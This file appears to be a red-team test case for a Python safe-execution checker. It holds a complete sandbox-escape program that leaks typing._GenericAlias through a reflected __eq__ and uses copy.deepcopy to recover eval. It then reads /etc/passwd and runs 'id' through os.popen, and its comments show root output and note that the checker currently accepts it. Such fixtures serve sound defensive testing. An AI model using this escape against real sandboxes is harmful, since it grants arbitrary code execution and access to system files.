# expect: reject class_value
# line: 26
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family E: a class by value handed to the program's __eq__ through containment (an element of a tuple on the right of in, typing.get_args's tuple) or a dict lookup whose key of the program forges the class's hash (the red team's program)
# Mechanism: as ok_15 ('g in (type(x),)' hands type(x) to the program's reflected __eq__), with x = 
# typing.List[int]: type(x) is the private class typing._GenericAlias by value, so the end gadget 
# needs neither the builtin type nor a library class with Python methods: _GenericAlias(int, 
# ('eval',), name='__builtins__') deep-copied reduces to operator.getitem(typing's 
# globals()['__builtins__'], 'eval').
# Goal reached: eval by value, called: reads /etc/passwd (open) and runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <built-in function eval>
#   root:x:0:0:root:/root:/bin/bash
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import typing

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

g = Grab()
try:
    g in (type(typing.List[int]),)
except Exception as e:
    A = e.args[0]
print("by value:", A)
ev = copy.deepcopy(A(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("open('/etc/passwd').readline()"), end="")
print(ev("__import__('os').popen('id').read()"), end="")
